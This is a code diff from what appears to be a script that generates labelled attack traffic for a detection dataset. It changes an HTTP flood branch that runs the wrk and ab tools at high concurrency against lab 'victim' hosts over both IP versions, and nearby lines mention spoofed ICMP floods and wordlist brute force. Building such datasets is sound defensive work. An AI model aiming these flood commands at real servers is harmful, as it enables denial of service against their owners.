@@ -601,15 +601,23 @@ def attack(kind, seconds):
             if not spoof:
                 label_if_ran(t0, time.time(), target, atk4, "*", "icmp", "dos")
         else:
-            target = host(RNG.choice(["web", "victim", "victim"]), fam)
-            url = f"http://{url_host(target)}/{RNG.choice(['', 'site/p1.html', 'api/items1.json'])}"
-            if variant == "http_wrk":
-                run(["wrk", f"-t{RNG.choice([1, 2])}", f"-c{RNG.choice([10, 25, 50, 100])}", f"-d{int(seconds)}s",
-                     "--timeout", "2s", url], seconds + 5)
-            else:
-                run(["ab", "-q", "-s", "3", "-t", str(int(seconds)), "-n", "1000000",
-                     "-c", str(RNG.choice([5, 10, 20, 50])), url], seconds + 5)
-            label_if_ran(t0, time.time(), atk, target, 80, "tcp", "dos")
+            # Half the episode over each IP version, the first drawn: every
+            # run floods over both, whose segments differ by the MSS.
+            for k, f in enumerate([fam, 10 - fam]):
+                t1, before = time.time(), STARTED[0]
+                part = max(2.0, (seconds - (t1 - t0)) / (2 - k))
+                target = host(RNG.choice(["web", "victim", "victim"]), f)
+                url = f"http://{url_host(target)}/{RNG.choice(['', 'site/p1.html', 'api/items1.json'])}"
+                if variant == "http_wrk":
+                    run(["wrk", f"-t{RNG.choice([1, 2])}", f"-c{RNG.choice([10, 25, 50, 100])}",
+                         f"-d{int(part)}s", "--timeout", "2s", url], part + 5)
+                else:
+                    run(["ab", "-q", "-s", "3", "-t", str(int(part)), "-n", "1000000",
+                         "-c", str(RNG.choice([5, 10, 20, 50])), url], part + 5)
+                if STARTED[0] > before:
+                    label(t1, time.time(), me(f), target, 80, "tcp", "dos")
+                if left() < 3:
+                    break
     elif kind == "bruteforce":
         variant = next_variant("bruteforce")
         words = os.path.join(CFG["work"], "wordlist.txt")
